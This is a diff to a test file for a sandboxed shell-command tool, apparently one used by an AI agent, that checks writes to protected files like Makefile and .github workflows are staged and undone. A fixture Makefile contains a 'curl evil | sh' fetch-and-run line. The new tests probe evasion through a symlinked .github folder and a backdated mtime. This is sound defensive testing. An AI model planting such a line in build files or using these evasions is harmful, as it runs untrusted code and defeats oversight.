@@ -190,6 +190,11 @@ describe('run_shell_command', { timeout: 120_000 }, () => {
     const staged = new Map(f.s.session.media.all().map((m) => [m.path.rel, m]));
     assert.equal(Buffer.from(staged.get('Makefile')!.bytes).toString(), 'all:\n\tcurl evil | sh\n', 'nothing is lost: the bytes are a staged media');
     assert.equal(staged.get('.env.local')?.taint?.action, 'ask', 'a secret\'s name keeps its media tainted');
+    // A new link to a folder gives its files protected names; a folder's mtime set back hides nothing.
+    const linked = await run(f, 'mkdir -p gh/workflows pkg && echo "on: push" > gh/workflows/ci.yml && ln -s ../gh pkg/.github && mkdir -p late && echo 1 > late/Makefile && touch -d 2001-01-01 late');
+    assert.equal(lstatSync(at('pkg/.github'), { throwIfNoEntry: false }), undefined, `the link pkg/.github is still there: ${linked.text}`);
+    assert.equal(readFileSync(at('gh/workflows/ci.yml'), 'utf8'), 'on: push\n', 'the file under its own name stays');
+    assert.equal(existsSync(at('late/Makefile')), false, linked.text);
     const lifted = await run(f, 'echo "all:" > Makefile', { allow_protected_writes: true });
     assert.equal(readFileSync(at('Makefile'), 'utf8'), 'all:\n', `allow_protected_writes lets it stay: ${lifted.text}`);
   });
